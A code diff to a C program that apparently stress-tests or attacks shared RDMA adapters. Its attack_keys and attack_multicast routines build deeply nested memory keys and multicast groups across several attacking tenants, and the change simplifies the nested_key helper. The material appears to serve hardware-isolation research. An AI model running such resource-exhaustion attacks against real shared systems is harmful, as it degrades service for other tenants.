@@ -34,7 +34,6 @@ enum {
 	NESTING = 4, ENTRIES = 255, BYTES = ENTRIES * 17, MEMBERS = 240, HOSTILE = 10000,
 	ATTACKERS = 2,
 	NOBODY = 65534, QKEY = 0x1234, GRH = 40, DATAGRAM = 4096,
-	PIECE = 51,	/* bytes of a piece of a datagram; the adapter refuses smaller pieces */
 };
 #define PERIOD	100e-6
 
@@ -244,14 +243,14 @@ static uint32_t list_key(struct tenant *t, uint32_t inner, uint64_t base, uint32
 	return key;
 }
 
-/* A key of at least BYTES bytes, in pieces of @size bytes */
-static uint32_t nested_key(struct tenant *t, uint32_t size)
+/* A key of at least BYTES bytes, in pieces of one byte */
+static uint32_t nested_key(struct tenant *t)
 {
-	uint32_t key = list_key(t, t->mr->lkey, (uintptr_t)t->buf, ENTRIES * size, size);
-	uint32_t outer = size < BYTES / ENTRIES ? BYTES / ENTRIES : size;
+	const uint32_t outer = BYTES / ENTRIES;
+	uint32_t key = list_key(t, t->mr->lkey, (uintptr_t)t->buf, ENTRIES, 1);
 	int i;
 
-	key = list_key(t, key, 0, ENTRIES * size, outer);
+	key = list_key(t, key, 0, ENTRIES, outer);
 	for (i = 2; i < NESTING; i++)
 		key = list_key(t, key, 0, ENTRIES * outer, outer);
 	return key;
@@ -269,7 +268,7 @@ static void drain(struct tenant *t)
 
 static void attack_keys(struct tenant *t, void (*ready)(void))
 {
-	uint32_t key = nested_key(t, 1);
+	uint32_t key = nested_key(t);
 	struct ibv_sge sge = { .length = BYTES, .lkey = key };
 	struct ibv_send_wr wr = { .sg_list = &sge, .num_sge = 1, .opcode = IBV_WR_RDMA_WRITE,
 		.send_flags = IBV_SEND_SIGNALED, .wr.rdma = { .rkey = key } }, *bad;
@@ -291,7 +290,7 @@ static void attack_multicast(struct tenant *t, void (*ready)(void))
 	/* One group for each attacker, because a group has a limit of members. */
 	const union ibv_gid group = { .raw = { 0xff, 0x0e, [10] = 0xff, 0xff, 239, 9,
 		(uint8_t)(getpid() >> 8), (uint8_t)getpid() } };
-	uint32_t key = nested_key(t, PIECE);
+	uint32_t key = nested_key(t);
 	struct ibv_srq_init_attr srq_attr = { .attr = { .max_wr = 4096, .max_sge = 1 } };
 	struct ibv_ah_attr ah_attr = { .port_num = 1, .is_global = 1, .grh = { .dgid = group,
 		.sgid_index = (uint8_t)t->gid_index, .hop_limit = 64 } };
